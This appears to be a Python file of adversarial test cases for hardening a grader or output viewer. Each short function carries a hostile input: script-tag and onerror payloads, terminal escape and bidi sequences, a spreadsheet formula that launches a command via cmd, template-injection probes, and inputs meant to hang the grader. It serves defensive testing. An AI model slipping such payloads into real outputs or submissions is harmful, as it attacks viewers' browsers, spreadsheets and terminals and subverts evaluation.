# %% html_in_a_message: injection
def attack(): raise ValueError("<script>@INJECT@</script><img src=x onerror=@INJECT@>")

# %% html_in_output: injection
def attack(): print("</pre><script>@INJECT@</script>", "<img src=x onerror=@INJECT@>")

# %% html_in_a_type: injection
def attack(): return type("<script>@INJECT@</script>", (), {})()

# %% html_in_a_name: injection
def attack(): exec(compile("<img onerror=@INJECT@ src=x>", "<script>@INJECT@</script>", "exec"))

# %% escapes_for_the_terminal: injection
def attack():
    print("\x1b]0;@INJECT@\x07\x1b[2J\x1b[31m\x9b31m\x1b]8;;http://x/@INJECT@\x1b\\")
    raise ValueError("\x1b[2J@INJECT@\r\x08\u202e\u2066\x00")

# %% formula_for_a_spreadsheet: injection
def attack(): raise ValueError("=HYPERLINK(\"http://x/@INJECT@\")\n=cmd|' /C calc'!A0")

# %% markup_of_rich: injection
def attack(): raise ValueError("[bold red]@INJECT@[/][link=http://x]y[/link] {{7*7}} {% raw %} ${7*7}")

# %% lone_surrogates: grader hung or dead
def attack():
    print("\ud800\udfff")
    raise ValueError("\udcff" * 10)

# %% quoted_line: injection
def attack(): raise ValueError  # </code><script>@INJECT@</script>

# %% million_character_message: grader hung or dead
def attack(): raise ValueError("<" * 10_000_000)

# %% json_numbers: grader hung or dead
def attack(): return {"a": float("nan"), "b": float("inf"), "</script>": [1e400, -0.0]}
